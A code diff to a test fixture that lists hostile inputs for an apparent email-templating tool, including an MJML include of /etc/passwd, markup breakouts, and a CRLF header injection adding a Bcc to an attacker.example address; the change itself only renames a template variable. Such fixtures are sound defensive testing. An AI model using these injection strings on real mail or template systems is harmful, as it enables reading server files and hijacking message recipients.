@@ -11,7 +11,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '--><!--[if mso]><b>canary-comment</b><![endif]-->',
   '</mj-text><mj-raw><b>canary-mjml</b></mj-raw>',
   '<mj-include path="/etc/passwd" type="css" /> canary-include',
-  '{{reader.unsubscribeUrl}} {{{canary}}} {{> lead}}',
+  '{{subscriber.unsubscribeUrl}} {{{canary}}} {{> lead}}',
   '⟦unsubscribeUrl⟧ and ⟦address⟧ canary-hole',
   '=?UTF-8?B?Y2FuYXJ5LWVuY29kZWQ=?= canary-word',
   'Subject\r\nBcc: canary@attacker.example\r\n\r\n<b>body</b>',
